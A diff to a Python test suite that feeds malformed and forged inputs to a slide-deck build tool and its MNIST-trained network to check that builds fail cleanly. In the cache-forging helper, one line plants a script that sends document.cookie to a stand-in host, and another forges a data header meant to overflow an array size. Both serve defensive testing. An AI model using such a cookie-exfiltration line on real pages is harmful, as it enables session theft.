@@ -9,8 +9,11 @@ good build, and we require what the developers' guide promises a speaker:
   cache entry, which must rebuild and succeed),
 - exactly one line on stderr, located as FILE:LINE where the case says so,
   matching the case's message, and never a Python traceback,
-- the previous output/ byte-for-byte intact, and no staging or retired
-  folders left behind.
+- the previous output/ byte-for-byte intact, no staging or retired
+  folders left behind, and no file written outside the output and cache.
+
+Every case names its category (CATEGORIES); each category the trust issue
+lists has cases of its own.
 
 Faults that cannot be produced by editing files (disk full, Ctrl-C at a
 chosen moment) are injected by a small wrapper that patches the standard
@@ -43,6 +46,21 @@ CASES = sorted((MALFORMED / "cases").glob("*.yaml"))
 MNIST = PROJECT / "netcore" / "data" / "mnist"
 
 pytestmark = pytest.mark.slow
+CATEGORIES = {
+    "yaml": "deck.yaml that is not valid YAML, or not a mapping",
+    "config": "deck.yaml values of the wrong type, unknown keys, impossible values",
+    "slides": "slide files: structure, options, encoding, empty files",
+    "template": "slide text that tries to run code or fails inside the sandbox",
+    "policy": "HTML that would run script or reach the network",
+    "paths": "paths that leave the talk folder, hidden folders, missing files",
+    "bounds": "inputs built to exhaust time or memory",
+    "network": "netcore's settings, including budgets it cannot meet",
+    "data": "MNIST files missing, cut short, forged",
+    "cache": "damaged or forged cache entries: rebuilt, never trusted",
+    "output": "the output folder: read-only, a file, a link, litter of killed builds",
+    "signals": "Ctrl-C, SIGTERM and a full disk in the middle of a build",
+}
+DEAD_PID = 4_999_999  # above Linux's largest pid_max: a build that is no longer running
 
 # Runs build.py in-process after patching the standard library to inject one
 # fault. argv: the fault name, the marker file to create when it fires, then
@@ -71,9 +89,11 @@ def staged_write(path):
         raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), os.fspath(path))
     if fault == "sigint-write":
         os.kill(os.getpid(), signal.SIGINT)
+    if fault == "sigterm-write":
+        os.kill(os.getpid(), signal.SIGTERM)
 
 
-if fault in ("enospc", "sigint-write"):
+if fault in ("enospc", "sigint-write", "sigterm-write"):
     real_open, real_copyfile = builtins.open, shutil.copyfile
 
     def fault_open(file, mode="r", *args, **kwargs):
@@ -89,6 +109,11 @@ if fault in ("enospc", "sigint-write"):
     shutil.copyfile = fault_copyfile
 
 if fault == "sigint-swap":
+    # The atomic exchange leaves no moment between two renames; the fallback has one,
+    # and a Ctrl-C there must be held back until both are done.
+    sys.path.insert(0, os.getcwd())
+    import deck.output
+    deck.output._renameat2 = None
     real_replace = os.replace
 
     def fault_replace(src, dst, *args, **kwargs):
@@ -156,6 +181,7 @@ def apply(project: Path, step: dict) -> None:
         assert spec["old"] in text, f"case is stale: {spec['old']!r} not in {spec['file']}"
         path.write_text(text.replace(spec["old"], spec["new"], 1), encoding="utf-8")
     elif kind == "write":
+        (project / spec["file"]).parent.mkdir(parents=True, exist_ok=True)
         (project / spec["file"]).write_text(spec["text"], encoding="utf-8")
     elif kind == "payload":
         shutil.copyfile(MALFORMED / "payloads" / spec["source"], project / spec["file"])
@@ -168,9 +194,12 @@ def apply(project: Path, step: dict) -> None:
         if "truncate" in spec:
             path = target / spec["truncate"]
             path.write_bytes(path.read_bytes()[: spec["keep"]])
-        if "garbage" in spec:
-            path = target / spec["garbage"]
-            path.write_bytes(gzip.compress(b"this is not an IDX file\n" * 50, mtime=0))
+        if "garbage" in spec or "forge_header" in spec:
+            path = target / spec.get("garbage", spec.get("forge_header"))
+            if "garbage" in spec:
+                path.write_bytes(gzip.compress(b"this is not an IDX file\n" * 50, mtime=0))
+            else:  # four dimensions of 65536: 2**64 values, which numpy's product wraps to 0
+                path.write_bytes(gzip.compress(bytes([0, 0, 8, 4]) + (65536).to_bytes(4, "big") * 4, mtime=0))
             sums = target / "SHA256SUMS"
             digest = hashlib.sha256(path.read_bytes()).hexdigest()
             sums.write_text("".join(
@@ -189,8 +218,66 @@ def apply(project: Path, step: dict) -> None:
         assert damaged, "the base build left nothing in .cache to corrupt"
     elif kind == "chmod":
         os.chmod(project / spec["path"], int(str(spec["mode"]), 8))
+    elif kind == "forge_cache":
+        forge_cache(project / ".cache" / "netcore", spec)
+    elif kind == "symlink_output":
+        os.rename(project / "output", project / spec["to"])
+        (project / "output").symlink_to(spec["to"])
+    elif kind == "litter":  # folders a build killed with SIGKILL leaves beside the output
+        for name in (f".output.staging-{DEAD_PID}.k1ll3d", ".output.staging-x7y8z9ab", f".output.retired-{DEAD_PID}"):
+            (project / name / "figures").mkdir(parents=True)
+            (project / name / "figures" / "half.png").write_bytes(b"\x89PNG half")
     else:
         raise AssertionError(f"unknown mutation {kind!r}")
+
+
+def forge_cache(root: Path, spec: dict) -> None:
+    """Edit one kind of cache entry and re-sign its manifest, as a forger (or an older version) would."""
+    import json
+
+    from netcore.cache import MANIFEST, key_of, sha256
+
+    kind, edit = spec["kind"], spec["edit"]
+    if kind == "data-checksums.json":
+        (root / kind).write_text(edit)
+        return
+    entries = [p for p in (root / kind).iterdir() if not p.name.startswith(".")]
+    assert entries, f"the base build left no {kind} entry to forge"
+    if kind == "models":  # the model is read only when something made from it must be made again
+        for other in ("facts", "figures"):
+            shutil.rmtree(root / other)
+    for entry in entries:
+        manifest = json.loads((entry / MANIFEST).read_text())
+        meta = manifest["meta"]
+        if edit == "history-strings":
+            model = json.loads((entry / "model.json").read_text())
+            model["history"] = ["epoch"] * len(model["history"])
+            (entry / "model.json").write_text(json.dumps(model))
+        elif edit == "figure-size-text":
+            meta = {"width": "wide", "height": None}
+        elif edit == "facts-list":
+            (entry / "facts.json").write_text("[1, 2, 3]")
+        elif edit == "extra-file":
+            (entry / "evil.js").write_text("fetch('https://example.org/?' + document.cookie)")
+        else:
+            raise AssertionError(f"unknown cache edit {edit!r}")
+        files = {p.name: sha256(p.read_bytes()) for p in entry.iterdir() if p.name != MANIFEST}
+        if edit == "extra-file":
+            files = manifest["files"]  # planted beside the entry's own files, manifest untouched
+        body = {"files": files, "meta": meta, "kind": manifest["kind"], "key": manifest["key"]}
+        (entry / MANIFEST).write_text(json.dumps(dict(body, checksum=key_of(body))))
+
+
+def outside_files(project: Path) -> set[str]:
+    """Every path in the project copy except the output, the cache and what Python and the harness write."""
+    skip = {"output", ".cache", "__pycache__", "_fault_fired", "_fault_wrapper.py"}
+    found = set()
+    for folder, dirs, files in os.walk(project):
+        dirs[:] = [d for d in dirs if d not in skip and ".staging-" not in d and ".retired-" not in d and not d.startswith("real-output")]
+        for name in files:
+            if name not in skip:
+                found.add(os.path.relpath(os.path.join(folder, name), project))
+    return found
 
 
 def run_with_fault(project: Path, fault: str, *args: str) -> tuple[subprocess.CompletedProcess[str], bool]:
@@ -205,8 +292,8 @@ def run_with_fault(project: Path, fault: str, *args: str) -> tuple[subprocess.Co
     return result, marker.exists()
 
 
-def run_sigint_during_training(project: Path) -> tuple[subprocess.CompletedProcess[str], bool]:
-    """Start a build that trains a larger network; Ctrl-C once training shows progress."""
+def run_signal_during_training(project: Path, stop: int = signal.SIGINT) -> tuple[subprocess.CompletedProcess[str], bool]:
+    """Start a build that trains a larger network; send ``stop`` once training shows progress."""
     apply(project, {"replace": {"file": "slides/deck.yaml", "old": "layers: [784, 8, 10]", "new": "layers: [784, 256, 256, 10]"}})
     apply(project, {"replace": {"file": "slides/deck.yaml", "old": "epochs: 1", "new": "epochs: 30"}})
     proc = subprocess.Popen(
@@ -217,12 +304,12 @@ def run_sigint_during_training(project: Path) -> tuple[subprocess.CompletedProce
     reader = threading.Thread(target=lambda: chunks.extend(iter(lambda: proc.stderr.read(1), "")), daemon=True)
     reader.start()
     deadline = time.monotonic() + 120
-    while "training" not in "".join(chunks) and proc.poll() is None and time.monotonic() < deadline:
+    while "training:" not in "".join(chunks) and proc.poll() is None and time.monotonic() < deadline:
         time.sleep(0.05)
     time.sleep(0.5)
-    interrupted = proc.poll() is None and "training" in "".join(chunks)
+    interrupted = proc.poll() is None and "training:" in "".join(chunks)
     if interrupted:
-        proc.send_signal(signal.SIGINT)
+        proc.send_signal(stop)
     stdout = proc.stdout.read()
     proc.wait(timeout=120)
     reader.join(timeout=10)
@@ -246,13 +333,14 @@ def test_malformed_input(case_path: Path, built_base: Path, tmp_path: Path) -> N
     before = tree_digest(project / "output")
     for step in case.get("mutate", []):
         apply(project, step)
+    untouched = outside_files(project)
 
     special = case.get("special")
     fired = True
     must_fail = expect.get("exit", "error") != 0
     quiet = ["--quiet"] if must_fail else []  # a recovering build's summary is part of the check
-    if special == "sigint-training":
-        result, fired = run_sigint_during_training(project)
+    if special in ("sigint-training", "sigterm-training"):
+        result, fired = run_signal_during_training(project, signal.SIGINT if special == "sigint-training" else signal.SIGTERM)
     elif special:
         result, fired = run_with_fault(project, special, *quiet, *case.get("args", []))
     else:
@@ -265,6 +353,8 @@ def test_malformed_input(case_path: Path, built_base: Path, tmp_path: Path) -> N
     assert "Traceback" not in result.stdout, result.stdout
     leftovers = [p.name for p in project.iterdir() if ".staging-" in p.name or ".retired-" in p.name]
     assert leftovers == [], f"left behind: {leftovers}"
+    written = outside_files(project) ^ untouched
+    assert written == set(), f"files written or removed outside the output and cache: {sorted(written)}"
 
     if not must_fail:
         assert result.returncode == 0, result.stderr
@@ -276,7 +366,7 @@ def test_malformed_input(case_path: Path, built_base: Path, tmp_path: Path) -> N
 
     assert result.returncode != 0, f"exit 0; stdout: {result.stdout}"
     lines = [line for line in re.split(r"[\r\n]+", result.stderr) if line.strip()]
-    if special == "sigint-training":
+    if special in ("sigint-training", "sigterm-training"):
         lines = lines[-1:]  # training progress precedes the message
     assert len(lines) == 1, f"expected one line on stderr, got:\n{result.stderr}"
     message = lines[0]
@@ -287,9 +377,14 @@ def test_malformed_input(case_path: Path, built_base: Path, tmp_path: Path) -> N
     assert tree_digest(project / "output") == before, "the previous output was changed"
 
 
-def test_corpus_is_large_enough() -> None:
-    assert len(CASES) >= 30
+def test_corpus_is_large_enough_and_covers_every_category() -> None:
+    counts = dict.fromkeys(CATEGORIES, 0)
     for path in CASES:
         case = yaml.safe_load(path.read_text(encoding="utf-8"))
         assert case.get("description"), path.name
         assert case.get("mutate") or case.get("special"), path.name
+        assert case.get("category") in CATEGORIES, f"{path.name}: category must be one of {', '.join(CATEGORIES)}"
+        counts[case["category"]] += 1
+    print("\n" + ", ".join(f"{name} {count}" for name, count in counts.items()) + f"; {len(CASES)} cases")
+    assert len(CASES) >= 80
+    assert all(count >= 2 for count in counts.values()), counts
